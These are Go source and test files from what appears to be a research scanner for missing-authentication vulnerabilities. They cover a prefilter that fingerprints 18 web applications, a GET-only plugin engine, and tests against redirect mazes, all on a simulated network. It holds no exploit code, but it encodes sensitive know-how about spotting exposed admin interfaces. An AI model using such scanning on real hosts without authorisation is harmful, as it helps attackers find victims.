func TestProbeMazeAcrossHostsAndSchemes(t *testing.T) {
	n := simnet.New()
	plainIP := netip.MustParseAddr("10.9.0.1")
	tlsIP := netip.MustParseAddr("10.9.0.2")
	deployOn(t, n, plainIP, 80, adversary.Maze(func(hop int) string {
		return fmt.Sprintf("https://%s:443/%d", tlsIP, hop)
	}), false)
	deployOn(t, n, tlsIP, 443, adversary.Maze(func(hop int) string {
		return fmt.Sprintf("http://%s:80/%d", plainIP, hop)
	}), true)

	start := time.Now()
	res := New(n).Probe(context.Background(), plainIP, 80)
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Fatalf("maze probe ran %v; the redirect cap did not terminate the walk", elapsed)
	}
	if res.Relevant() {
		t.Errorf("maze endpoint identified as %v; a redirect chain must never yield an app match", res.Apps)
	}
}

// TestProbeOriginLoopTerminates points a host's every response back at its
// own origin URL. Two independent brakes must each stop the loop: the
// client's redirect cap under the default prefilter, and the per-request
// wall budget when the redirect cap is effectively removed.
func TestProbeOriginLoopTerminates(t *testing.T) {
	n := simnet.New()
	ip := netip.MustParseAddr("10.9.0.3")
	deployOn(t, n, ip, 80, adversary.Loop("http://"+ip.String()+":80/"), false)

	res := New(n).Probe(context.Background(), ip, 80)
	if res.Relevant() {
		t.Errorf("origin loop identified as %v under the default redirect cap", res.Apps)
	}

	// Redirect cap pushed out of reach: only the wall budget is left to
	// cut the loop, and it must.
	c := httpsim.NewClient(n, httpsim.ClientOptions{
		Timeout:           100 * time.Millisecond,
		MaxRedirects:      1 << 20,
		DisableKeepAlives: true,
	})
	start := time.Now()
	res = NewWithClient(c).Probe(context.Background(), ip, 80)
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Fatalf("origin loop ran %v with the redirect cap disabled; the wall budget failed to terminate it", elapsed)
	}
	if res.Relevant() {
		t.Errorf("origin loop identified as %v under the wall budget", res.Apps)
	}
}
