package prefilter

import (
	"context"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"testing"

	"mavscan/internal/apps"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
)

func TestSignatureCountMatchesPaper(t *testing.T) {
	sigs := Signatures()
	if len(sigs) != 90 {
		t.Fatalf("signature set has %d entries, want 90 (five per in-scope app)", len(sigs))
	}
	perApp := map[mav.App]int{}
	for _, s := range sigs {
		perApp[s.App]++
	}
	for _, info := range mav.InScopeApps() {
		if perApp[info.App] != 5 {
			t.Errorf("%s has %d signatures, want 5", info.App, perApp[info.App])
		}
	}
}

// landingBody renders an instance's landing page the way Stage II sees it.
func landingBody(t *testing.T, cfg apps.Config) string {
	t.Helper()
	inst, err := apps.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	path := "/"
	rec := httptest.NewRecorder()
	req := httptest.NewRequest("GET", path, nil)
	req.RemoteAddr = "198.51.100.1:1"
	inst.Handler().ServeHTTP(rec, req)
	// Follow one local redirect, as the probe does.
	for i := 0; i < 5 && rec.Code >= 300 && rec.Code < 400; i++ {
		loc := rec.Header().Get("Location")
		rec = httptest.NewRecorder()
		req = httptest.NewRequest("GET", loc, nil)
		req.RemoteAddr = "198.51.100.1:1"
		inst.Handler().ServeHTTP(rec, req)
	}
	return rec.Body.String()
}

// TestEveryAppMatchesItsOwnSignatures: both the vulnerable and the secure
// rendering of each in-scope application must be identified by Stage II.
func TestEveryAppMatchesItsOwnSignatures(t *testing.T) {
	for _, info := range mav.InScopeApps() {
		for _, vulnerable := range []bool{true, false} {
			cfg := apps.Config{App: info.App, Options: map[string]bool{}}
			switch info.App {
			case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
				cfg.Installed = !vulnerable
				if info.App == mav.Joomla && vulnerable {
					cfg.Version = "3.6.0" // pre-countermeasure release
				}
			case mav.Consul:
				cfg.Options["enableScriptChecks"] = vulnerable
			case mav.Ajenti:
				cfg.Options["autologin"] = vulnerable
			case mav.PhpMyAdmin:
				cfg.Options["allowNoPassword"] = vulnerable
			case mav.Adminer:
				cfg.Options["emptyDBPassword"] = vulnerable
			default:
				cfg.AuthRequired = !vulnerable
			}
			body := landingBody(t, cfg)
			matched := MatchBody(body)
			found := false
			for _, app := range matched {
				if app == info.App {
					found = true
				}
			}
			if !found {
				t.Errorf("%s (vulnerable=%v): landing page not matched; got %v", info.App, vulnerable, matched)
			}
		}
	}
}

// TestBackgroundServicesDoNotMatch: Stage II must discard all non-AWE
// noise.
func TestBackgroundServicesDoNotMatch(t *testing.T) {
	for _, kind := range apps.BackgroundKinds() {
		rec := httptest.NewRecorder()
		apps.Background(kind).ServeHTTP(rec, httptest.NewRequest("GET", "/", nil))
		if matched := MatchBody(rec.Body.String()); len(matched) != 0 {
			t.Errorf("background %s matched %v", kind, matched)
		}
	}
}

// TestOutOfScopeAppsDoNotMatch: the 7 catalog apps without MAVs must not
// trigger signatures either.
func TestOutOfScopeAppsDoNotMatch(t *testing.T) {
	for _, info := range mav.Catalog() {
		if info.InScope() {
			continue
		}
		body := landingBody(t, apps.Config{App: info.App})
		if matched := MatchBody(body); len(matched) != 0 {
			t.Errorf("out-of-scope %s matched %v", info.App, matched)
		}
	}
}

func deployOn(t *testing.T, n *simnet.Network, ip netip.Addr, port int, handler http.Handler, tls bool) {
	t.Helper()
	h := simnet.NewHost(ip)
	if tls {
		ca, err := httpsim.NewCA()
		if err != nil {
			t.Fatal(err)
		}
		cert, err := ca.CertFor(ip.String())
		if err != nil {
			t.Fatal(err)
		}
		h.Bind(port, httpsim.TLSConnHandler(handler, cert))
	} else {
		h.Bind(port, httpsim.ConnHandler(handler))
	}
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
}

func TestProbeProtocolSelection(t *testing.T) {
	n := simnet.New()
	inst, err := apps.New(apps.Config{App: mav.Docker})
	if err != nil {
		t.Fatal(err)
	}
	httpIP := netip.MustParseAddr("10.0.0.1")
	tlsIP := netip.MustParseAddr("10.0.0.2")
	deployOn(t, n, httpIP, 2375, inst.Handler(), false)
	deployOn(t, n, tlsIP, 2375, inst.Handler(), true)

	p := New(n)
	ctx := context.Background()

	res := p.Probe(ctx, httpIP, 2375)
	if !res.HTTP || res.HTTPS {
		t.Errorf("plain host: HTTP=%v HTTPS=%v", res.HTTP, res.HTTPS)
	}
	if !res.Relevant() || res.Apps[0] != mav.Docker || res.Scheme != "http" {
		t.Errorf("plain host result: %+v", res)
	}

	res = p.Probe(ctx, tlsIP, 2375)
	if res.HTTP || !res.HTTPS {
		t.Errorf("TLS host: HTTP=%v HTTPS=%v", res.HTTP, res.HTTPS)
	}
	if res.Scheme != "https" {
		t.Errorf("TLS host scheme = %q", res.Scheme)
	}
}

func TestProbePort80And443AreSingleProtocol(t *testing.T) {
	n := simnet.New()
	inst, err := apps.New(apps.Config{App: mav.WordPress, Installed: true})
	if err != nil {
		t.Fatal(err)
	}
	// A TLS server on port 80: per methodology only HTTP is tried there,
	// so the probe must come back empty rather than trying HTTPS.
	ip := netip.MustParseAddr("10.0.0.9")
	deployOn(t, n, ip, 80, inst.Handler(), true)
	res := New(n).Probe(context.Background(), ip, 80)
	if res.HTTP || res.HTTPS || res.Relevant() {
		t.Errorf("TLS-on-80 should yield nothing: %+v", res)
	}
}

func TestProbeFollowsRedirectToInstaller(t *testing.T) {
	// An uninstalled WordPress redirects / to the installer; the probe
	// must follow and still identify WordPress.
	n := simnet.New()
	inst, err := apps.New(apps.Config{App: mav.WordPress, Installed: false})
	if err != nil {
		t.Fatal(err)
	}
	ip := netip.MustParseAddr("10.0.0.3")
	deployOn(t, n, ip, 80, inst.Handler(), false)
	res := New(n).Probe(context.Background(), ip, 80)
	if !res.Relevant() || res.Apps[0] != mav.WordPress {
		t.Fatalf("installer redirect not followed: %+v", res)
	}
}
