// Package prefilter implements Stage II of the scanning pipeline.
//
// For every open port found by Stage I it checks whether the endpoint
// speaks HTTP and/or HTTPS (port 80 is only probed as HTTP and port 443
// only as HTTPS, as in the paper), follows redirects until a response body
// is obtained, and matches the body against the hand-crafted signature set
// identifying the 18 studied applications. Everything else is discarded so
// the slower Stage III only sees relevant targets.
package prefilter

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"time"

	"mavscan/internal/httpsim"
	"mavscan/internal/limits"
	"mavscan/internal/mav"
	"mavscan/internal/resilience"
	"mavscan/internal/simnet"
	"mavscan/internal/telemetry"
)

// Result describes one probed (ip, port) endpoint.
type Result struct {
	IP   netip.Addr
	Port int
	// HTTP and HTTPS report whether each protocol produced a response.
	HTTP, HTTPS bool
	// Apps are the applications whose signatures matched, in catalog
	// order. Empty means the endpoint is out of scope.
	Apps []mav.App
	// Scheme is the scheme ("http" or "https") whose body produced the
	// first match; Stage III reuses it.
	Scheme string
}

// Relevant reports whether the endpoint warrants Stage-III scanning.
func (r Result) Relevant() bool { return len(r.Apps) > 0 }

// Prefilter probes endpoints through a simulated network.
type Prefilter struct {
	client *http.Client
	retr   *resilience.Retrier
	tel    *preTelemetry
}

// SetRetrier installs retry/backoff on the prefilter's fetches: transport
// errors, body-read errors and transient 5xx responses are retried under
// the retrier's policy. A nil retrier (the default) keeps single-attempt
// semantics.
func (p *Prefilter) SetRetrier(r *resilience.Retrier) { p.retr = r }

// preTelemetry carries the Stage-II funnel handles: how many open ports
// were probed, how many spoke each protocol, and how many matched which
// application signature. Per-app handles are pre-resolved over the full
// catalog so the probe path never formats a metric name.
type preTelemetry struct {
	probes      *telemetry.Counter
	httpResp    *telemetry.Counter
	httpsResp   *telemetry.Counter
	responders  *telemetry.Counter
	matched     *telemetry.Counter
	fetchErrors *telemetry.Counter
	truncated   *telemetry.Counter
	perApp      map[mav.App]*telemetry.Counter
}

// Instrument registers the Stage-II funnel metrics with reg (nil = off).
func (p *Prefilter) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	perApp := make(map[mav.App]*telemetry.Counter)
	for _, info := range mav.Catalog() {
		perApp[info.App] = reg.Counter(
			telemetry.Labeled("mavscan_prefilter_matches_total", "app", string(info.App)))
	}
	p.tel = &preTelemetry{
		probes:      reg.Counter("mavscan_prefilter_probes_total"),
		httpResp:    reg.Counter("mavscan_prefilter_http_total"),
		httpsResp:   reg.Counter("mavscan_prefilter_https_total"),
		responders:  reg.Counter("mavscan_prefilter_responders_total"),
		matched:     reg.Counter("mavscan_prefilter_matched_endpoints_total"),
		fetchErrors: reg.Counter("mavscan_prefilter_fetch_errors_total"),
		truncated:   reg.Counter("mavscan_prefilter_truncated_total"),
		perApp:      perApp,
	}
}

// New returns a prefilter dialing through n.
func New(n *simnet.Network) *Prefilter {
	return &Prefilter{client: httpsim.NewClient(n, httpsim.ClientOptions{
		Timeout:           10 * time.Second,
		MaxRedirects:      5,
		DisableKeepAlives: true,
	})}
}

// NewWithClient returns a prefilter using a caller-supplied client (tests,
// or a future real-network deployment).
func NewWithClient(c *http.Client) *Prefilter { return &Prefilter{client: c} }

// fetch retrieves scheme://ip:port/ following redirects and returns the
// final body, retrying transient failures when a retrier is installed.
// truncated reports that the body was cut at the read cap: a signature
// match on it is still a match, but a hash of it must never be treated as
// the document hash.
func (p *Prefilter) fetch(ctx context.Context, scheme string, ip netip.Addr, port int) (body string, truncated bool, err error) {
	if p.retr == nil {
		body, truncated, _, err := p.fetchOnce(ctx, scheme, ip, port)
		return body, truncated, err
	}
	// A 5xx is retried like a transport error. When failures persist past
	// the attempt budget, the last 5xx body is surfaced only if every
	// attempt got a real HTTP answer: a persistently degraded server is
	// still a protocol responder, and signature matching never depended on
	// the status code. But if any attempt failed at the connection level,
	// the error wins — otherwise a single transient 5xx (injected or not)
	// would promote an endpoint that cannot complete a clean exchange
	// (say, a TLS-only service probed over plain HTTP) into an HTTP
	// responder it never was.
	var fetched, connErr bool
	rerr := p.retr.Do(ctx, func(ctx context.Context) error {
		b, trunc, status, err := p.fetchOnce(ctx, scheme, ip, port)
		if err != nil {
			connErr = true
			return err
		}
		body, truncated, fetched = b, trunc, true
		if status >= 500 {
			return fmt.Errorf("prefilter: transient server status %d", status)
		}
		return nil
	})
	if rerr == nil || (fetched && !connErr) {
		return body, truncated, nil
	}
	return "", false, rerr
}

// fetchOnce is a single fetch attempt. The body read is capped at
// limits.MaxBody with the overflow recorded, never buffered.
func (p *Prefilter) fetchOnce(ctx context.Context, scheme string, ip netip.Addr, port int) (string, bool, int, error) {
	url := fmt.Sprintf("%s://%s:%d/", scheme, ip, port)
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return "", false, 0, err
	}
	req.Header.Set("User-Agent", "mavscan-research-scanner/1.0 (+https://example.org/scan-optout)")
	resp, err := p.client.Do(req)
	if err != nil {
		return "", false, 0, err
	}
	defer resp.Body.Close()
	body, truncated, err := limits.ReadBody(resp.Body, limits.MaxBody)
	if err != nil {
		return "", truncated, resp.StatusCode, err
	}
	return string(body), truncated, resp.StatusCode, nil
}

// Probe runs the Stage-II check for one open port.
func (p *Prefilter) Probe(ctx context.Context, ip netip.Addr, port int) Result {
	res := Result{IP: ip, Port: port}
	trySchemes := []string{"http", "https"}
	switch port {
	case 80:
		trySchemes = []string{"http"}
	case 443:
		trySchemes = []string{"https"}
	}
	for _, scheme := range trySchemes {
		if ctx.Err() != nil {
			break // canceled: report only what was already observed
		}
		body, truncated, err := p.fetch(ctx, scheme, ip, port)
		if err != nil {
			if p.tel != nil {
				p.tel.fetchErrors.Inc()
			}
			continue
		}
		if truncated && p.tel != nil {
			p.tel.truncated.Inc()
		}
		if scheme == "http" {
			res.HTTP = true
		} else {
			res.HTTPS = true
		}
		if apps := MatchBody(body); len(apps) > 0 && res.Scheme == "" {
			res.Apps = apps
			res.Scheme = scheme
		}
	}
	if tel := p.tel; tel != nil {
		tel.probes.Inc()
		if res.HTTP {
			tel.httpResp.Inc()
		}
		if res.HTTPS {
			tel.httpsResp.Inc()
		}
		if res.HTTP || res.HTTPS {
			tel.responders.Inc()
		}
		if len(res.Apps) > 0 {
			tel.matched.Inc()
			for _, app := range res.Apps {
				tel.perApp[app].Inc()
			}
		}
	}
	return res
}
