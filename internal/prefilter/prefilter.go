// Package prefilter implements Stage II of the scanning pipeline.
//
// For every open port found by Stage I it checks whether the endpoint
// speaks HTTP and/or HTTPS (port 80 is only probed as HTTP and port 443
// only as HTTPS, as in the paper), follows redirects until a response body
// is obtained, and matches the body against the hand-crafted signature set
// identifying the 18 studied applications. Everything else is discarded so
// the slower Stage III only sees relevant targets.
package prefilter

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"time"

	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
)

// maxBody bounds how much of a response body is read for matching.
const maxBody = 512 << 10

// Result describes one probed (ip, port) endpoint.
type Result struct {
	IP   netip.Addr
	Port int
	// HTTP and HTTPS report whether each protocol produced a response.
	HTTP, HTTPS bool
	// Apps are the applications whose signatures matched, in catalog
	// order. Empty means the endpoint is out of scope.
	Apps []mav.App
	// Scheme is the scheme ("http" or "https") whose body produced the
	// first match; Stage III reuses it.
	Scheme string
}

// Relevant reports whether the endpoint warrants Stage-III scanning.
func (r Result) Relevant() bool { return len(r.Apps) > 0 }

// Prefilter probes endpoints through a simulated network.
type Prefilter struct {
	client *http.Client
}

// New returns a prefilter dialing through n.
func New(n *simnet.Network) *Prefilter {
	return &Prefilter{client: httpsim.NewClient(n, httpsim.ClientOptions{
		Timeout:           10 * time.Second,
		MaxRedirects:      5,
		DisableKeepAlives: true,
	})}
}

// NewWithClient returns a prefilter using a caller-supplied client (tests,
// or a future real-network deployment).
func NewWithClient(c *http.Client) *Prefilter { return &Prefilter{client: c} }

// fetch retrieves scheme://ip:port/ following redirects and returns the
// final body.
func (p *Prefilter) fetch(ctx context.Context, scheme string, ip netip.Addr, port int) (string, error) {
	url := fmt.Sprintf("%s://%s:%d/", scheme, ip, port)
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return "", err
	}
	req.Header.Set("User-Agent", "mavscan-research-scanner/1.0 (+https://example.org/scan-optout)")
	resp, err := p.client.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, maxBody))
	if err != nil {
		return "", err
	}
	return string(body), nil
}

// Probe runs the Stage-II check for one open port.
func (p *Prefilter) Probe(ctx context.Context, ip netip.Addr, port int) Result {
	res := Result{IP: ip, Port: port}
	trySchemes := []string{"http", "https"}
	switch port {
	case 80:
		trySchemes = []string{"http"}
	case 443:
		trySchemes = []string{"https"}
	}
	for _, scheme := range trySchemes {
		body, err := p.fetch(ctx, scheme, ip, port)
		if err != nil {
			continue
		}
		if scheme == "http" {
			res.HTTP = true
		} else {
			res.HTTPS = true
		}
		if apps := MatchBody(body); len(apps) > 0 && res.Scheme == "" {
			res.Apps = apps
			res.Scheme = scheme
		}
	}
	return res
}
