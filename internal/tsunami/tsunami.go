// Package tsunami implements Stage III of the pipeline: a plugin-based
// network security scanner modeled on the Tsunami scanner the paper
// open-sourced. Each missing-authentication vulnerability is verified by a
// dedicated detection plugin (Appendix A, Table 10).
//
// The engine enforces the study's ethics constraint at the API level:
// plugins interact with targets exclusively through Env, which can only
// issue non-state-changing GET requests.
package tsunami

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/netip"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"mavscan/internal/limits"
	"mavscan/internal/mav"
	"mavscan/internal/resilience"
	"mavscan/internal/telemetry"
)

// Target is one endpoint to verify, as classified by the prefilter.
type Target struct {
	IP     netip.Addr
	Port   int
	Scheme string // "http" or "https"
	App    mav.App
}

// URL renders the base URL of the target.
func (t Target) URL() string { return fmt.Sprintf("%s://%s:%d", t.Scheme, t.IP, t.Port) }

// Env is the restricted view of the network a plugin gets. All access goes
// through GET; there is deliberately no method for POST/PUT/DELETE.
type Env struct {
	client *http.Client
	retr   *resilience.Retrier
}

// NewEnv wraps an HTTP client for plugin use.
func NewEnv(client *http.Client) *Env { return &Env{client: client} }

// SetRetrier installs retry/backoff on every Get issued through the env:
// transport errors, body-read errors and transient 5xx responses are
// retried under the retrier's policy. A nil retrier keeps single-attempt
// semantics.
func (e *Env) SetRetrier(r *resilience.Retrier) { e.retr = r }

// Response is a fetched page, pre-read for convenience. Body is capped at
// limits.MaxBody; Truncated reports that the endpoint sent more — a
// substring check on a truncated body is still valid evidence, but exact
// comparisons and hashes of it are not.
type Response struct {
	Status    int
	Body      string
	Header    http.Header
	Truncated bool
}

// Get fetches path (which must start with "/") from the target using a
// non-state-changing GET request. With a retrier installed, transient
// failures are retried; a 5xx that persists past the attempt budget is
// still returned as a Response — plugins inspect status codes themselves —
// but only when every attempt got a real HTTP answer. If any attempt
// failed at the connection level, the error wins, so a transient 5xx can
// never stand in for an endpoint that cannot complete a clean exchange.
func (e *Env) Get(ctx context.Context, t Target, path string) (*Response, error) {
	if !strings.HasPrefix(path, "/") {
		return nil, fmt.Errorf("tsunami: path %q must be absolute", path)
	}
	if e.retr == nil {
		return e.getOnce(ctx, t, path)
	}
	var last *Response
	var connErr bool
	err := e.retr.Do(ctx, func(ctx context.Context) error {
		resp, err := e.getOnce(ctx, t, path)
		if err != nil {
			connErr = true
			return err
		}
		last = resp
		if resp.Status >= 500 {
			return fmt.Errorf("tsunami: transient server status %d", resp.Status)
		}
		return nil
	})
	if err == nil || (last != nil && !connErr) {
		return last, nil
	}
	return nil, err
}

// getOnce is a single fetch attempt.
func (e *Env) getOnce(ctx context.Context, t Target, path string) (*Response, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, t.URL()+path, nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("User-Agent", "TsunamiSecurityScanner")
	resp, err := e.client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	body, truncated, err := limits.ReadBody(resp.Body, limits.MaxBody)
	if err != nil {
		return nil, err
	}
	return &Response{Status: resp.StatusCode, Body: string(body), Header: resp.Header, Truncated: truncated}, nil
}

// Detector is one MAV verification plugin.
type Detector interface {
	// App names the application the plugin covers; the engine routes
	// prefilter matches to it.
	App() mav.App
	// Name identifies the plugin in findings and logs.
	Name() string
	// Detect returns a non-nil finding if the target suffers from the
	// MAV, nil if it does not, and an error only for transport failures.
	Detect(ctx context.Context, env *Env, t Target) (*mav.Finding, error)
}

// Registry holds the installed detection plugins.
type Registry struct {
	mu        sync.RWMutex
	detectors map[mav.App][]Detector
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{detectors: make(map[mav.App][]Detector)}
}

// Register installs d.
func (r *Registry) Register(d Detector) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.detectors[d.App()] = append(r.detectors[d.App()], d)
}

// DetectorsFor returns the plugins covering app.
func (r *Registry) DetectorsFor(app mav.App) []Detector {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return r.detectors[app]
}

// Apps lists the applications with at least one plugin, sorted by name.
func (r *Registry) Apps() []mav.App {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make([]mav.App, 0, len(r.detectors))
	for app := range r.detectors {
		out = append(out, app)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Engine runs detection plugins against targets.
type Engine struct {
	registry *Registry
	env      *Env
	tel      *engineTelemetry
}

// engineTelemetry carries the Stage-III handles: a per-plugin latency
// histogram and verdict counters, plus engine-wide target/finding totals.
// Timestamps come from the telemetry registry's injected clock, so plugin
// latencies recorded under a simulated clock stay deterministic.
type engineTelemetry struct {
	reg      *telemetry.Registry
	targets  *telemetry.Counter
	findings *telemetry.Counter
	plugins  map[string]*pluginTelemetry
}

// pluginTelemetry is one detector's handle set, keyed by plugin name.
type pluginTelemetry struct {
	latency *telemetry.Histogram
	verdict map[string]*telemetry.Counter // finding | clean | error
}

// NewEngine builds an engine using the given plugin registry and client.
func NewEngine(registry *Registry, client *http.Client) *Engine {
	return &Engine{registry: registry, env: NewEnv(client)}
}

// SetRetrier installs retry/backoff on the engine's plugin environment.
func (e *Engine) SetRetrier(r *resilience.Retrier) { e.env.SetRetrier(r) }

// Instrument registers per-plugin metrics with reg (nil = off). Handles
// are resolved for every currently registered detector; plugins installed
// afterwards run uninstrumented.
func (e *Engine) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	tel := &engineTelemetry{
		reg:      reg,
		targets:  reg.Counter("mavscan_tsunami_targets_total"),
		findings: reg.Counter("mavscan_tsunami_findings_total"),
		plugins:  make(map[string]*pluginTelemetry),
	}
	for _, app := range e.registry.Apps() {
		for _, det := range e.registry.DetectorsFor(app) {
			name := det.Name()
			verdict := make(map[string]*telemetry.Counter, 3)
			for _, v := range []string{"finding", "clean", "error"} {
				verdict[v] = reg.Counter(
					telemetry.Labeled("mavscan_tsunami_verdicts_total", "plugin", name, "verdict", v))
			}
			tel.plugins[name] = &pluginTelemetry{
				latency: reg.Histogram(
					telemetry.Labeled("mavscan_tsunami_detect_seconds", "plugin", name), nil),
				verdict: verdict,
			}
		}
	}
	e.tel = tel
}

// Scan runs every plugin registered for the target's application and
// returns the confirmed findings. Transport errors from individual plugins
// are swallowed (an unreachable endpoint is simply not vulnerable *now*),
// matching the scanning pipeline's semantics — but when telemetry is on
// they are counted per plugin, so swallowed failures remain auditable.
func (e *Engine) Scan(ctx context.Context, t Target) []mav.Finding {
	tel := e.tel
	if tel != nil {
		tel.targets.Inc()
	}
	var findings []mav.Finding
	for _, det := range e.registry.DetectorsFor(t.App) {
		if ctx.Err() != nil {
			break // canceled: stop between plugins, return what is confirmed
		}
		var start time.Time
		if tel != nil {
			start = tel.reg.Now()
		}
		f, err := det.Detect(ctx, e.env, t)
		if tel != nil {
			if pt := tel.plugins[det.Name()]; pt != nil {
				pt.latency.ObserveDuration(tel.reg.Now().Sub(start))
				switch {
				case err != nil:
					pt.verdict["error"].Inc()
				case f == nil:
					pt.verdict["clean"].Inc()
				default:
					pt.verdict["finding"].Inc()
				}
			}
			if err == nil && f != nil {
				tel.findings.Inc()
			}
		}
		if err != nil || f == nil {
			continue
		}
		findings = append(findings, *f)
	}
	return findings
}

// --- Matching helpers shared by the plugins ---

// ValidHTML reports whether body looks like an HTML document, the "is
// valid HTML" step of several plugins.
func ValidHTML(body string) bool {
	low := strings.ToLower(body)
	return strings.Contains(low, "<!doctype html") || strings.Contains(low, "<html")
}

// HasElementWithID reports whether body contains an HTML element of the
// given tag carrying id="id" (the 'form#createItem'-style checks).
func HasElementWithID(body, tag, id string) bool {
	re := regexp.MustCompile(`(?is)<` + regexp.QuoteMeta(tag) + `\b[^>]*\bid="` + regexp.QuoteMeta(id) + `"`)
	return re.MatchString(body)
}

// StripWhitespace removes all whitespace from s; several plugins normalize
// bodies this way because element spacing differs across versions.
func StripWhitespace(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for _, r := range s {
		switch r {
		case ' ', '\t', '\n', '\r':
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// ParseJSON decodes body into a generic value, reporting ok=false for
// invalid JSON.
func ParseJSON(body string) (interface{}, bool) {
	var v interface{}
	if err := json.Unmarshal([]byte(body), &v); err != nil {
		return nil, false
	}
	return v, true
}

// JSONField walks a decoded JSON object along the given keys.
func JSONField(v interface{}, keys ...string) (interface{}, bool) {
	cur := v
	for _, k := range keys {
		obj, ok := cur.(map[string]interface{})
		if !ok {
			return nil, false
		}
		cur, ok = obj[k]
		if !ok {
			return nil, false
		}
	}
	return cur, true
}
