package tsunami

import (
	"context"
	"io"
	"net/http"
	"net/netip"
	"strings"
	"testing"

	"mavscan/internal/httpsim"
	"mavscan/internal/limits"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
)

func TestValidHTML(t *testing.T) {
	cases := []struct {
		body string
		want bool
	}{
		{"<!DOCTYPE html><html></html>", true},
		{"<HTML><body></body></HTML>", true},
		{`{"json": true}`, false},
		{"plain text", false},
	}
	for _, c := range cases {
		if got := ValidHTML(c.body); got != c.want {
			t.Errorf("ValidHTML(%q) = %v, want %v", c.body, got, c.want)
		}
	}
}

func TestHasElementWithID(t *testing.T) {
	body := `<html><body>
<form class="x" id="createItem" action="/createItem">
<INPUT type="password" ID="pass1">
</body></html>`
	if !HasElementWithID(body, "form", "createItem") {
		t.Error("form#createItem not found")
	}
	if !HasElementWithID(body, "input", "pass1") {
		t.Error("case-insensitive input#pass1 not found")
	}
	if HasElementWithID(body, "div", "createItem") {
		t.Error("wrong tag matched")
	}
	if HasElementWithID(body, "form", "create") {
		t.Error("id prefix must not match")
	}
}

func TestStripWhitespace(t *testing.T) {
	in := "<li class=\"is-active\">Set up\n\tdatabase</li>\r\n"
	want := `<liclass="is-active">Setupdatabase</li>`
	if got := StripWhitespace(in); got != want {
		t.Fatalf("StripWhitespace = %q, want %q", got, want)
	}
}

func TestJSONHelpers(t *testing.T) {
	v, ok := ParseJSON(`{"a": {"b": {"c": 42}}, "arr": [1,2]}`)
	if !ok {
		t.Fatal("valid JSON rejected")
	}
	c, ok := JSONField(v, "a", "b", "c")
	if !ok || c != float64(42) {
		t.Fatalf("JSONField = %v, %v", c, ok)
	}
	if _, ok := JSONField(v, "a", "missing"); ok {
		t.Error("missing key reported present")
	}
	if _, ok := JSONField(v, "arr", "b"); ok {
		t.Error("walking into an array must fail")
	}
	if _, ok := ParseJSON("not json"); ok {
		t.Error("invalid JSON accepted")
	}
}

// fakeDetector flags everything it is routed.
type fakeDetector struct {
	app   mav.App
	calls int
}

func (d *fakeDetector) App() mav.App { return d.app }
func (d *fakeDetector) Name() string { return "fake" }
func (d *fakeDetector) Detect(ctx context.Context, env *Env, target Target) (*mav.Finding, error) {
	d.calls++
	return &mav.Finding{App: d.app, Port: target.Port}, nil
}

func TestRegistryRouting(t *testing.T) {
	r := NewRegistry()
	dDocker := &fakeDetector{app: mav.Docker}
	dHadoop := &fakeDetector{app: mav.Hadoop}
	r.Register(dDocker)
	r.Register(dHadoop)

	if got := len(r.DetectorsFor(mav.Docker)); got != 1 {
		t.Fatalf("DetectorsFor(Docker) = %d", got)
	}
	if got := len(r.DetectorsFor(mav.Jenkins)); got != 0 {
		t.Fatalf("DetectorsFor(Jenkins) = %d", got)
	}
	apps := r.Apps()
	if len(apps) != 2 {
		t.Fatalf("Apps() = %v", apps)
	}

	engine := NewEngine(r, http.DefaultClient)
	findings := engine.Scan(context.Background(), Target{App: mav.Docker, Port: 2375})
	if len(findings) != 1 || dDocker.calls != 1 || dHadoop.calls != 0 {
		t.Fatalf("engine routed wrong: findings=%d docker=%d hadoop=%d", len(findings), dDocker.calls, dHadoop.calls)
	}
}

func TestEnvGetIsGETOnlyAndAbsolute(t *testing.T) {
	n := simnet.New()
	ip := netip.MustParseAddr("10.0.0.1")
	var method string
	h := simnet.NewHost(ip)
	h.Bind(80, httpsim.ConnHandler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		method = r.Method
		w.Header().Set("X-Probe", "1")
		w.Write([]byte(strings.Repeat("x", 16)))
	})))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	env := NewEnv(httpsim.NewClient(n, httpsim.ClientOptions{}))
	target := Target{IP: ip, Port: 80, Scheme: "http"}

	resp, err := env.Get(context.Background(), target, "/path")
	if err != nil {
		t.Fatal(err)
	}
	if method != http.MethodGet {
		t.Fatalf("env issued %s, the ethics constraint requires GET", method)
	}
	if resp.Status != 200 || resp.Header.Get("X-Probe") != "1" || len(resp.Body) != 16 {
		t.Fatalf("response not captured: %+v", resp)
	}

	if _, err := env.Get(context.Background(), target, "relative"); err == nil {
		t.Fatal("relative paths must be rejected")
	}
}

func TestTargetURL(t *testing.T) {
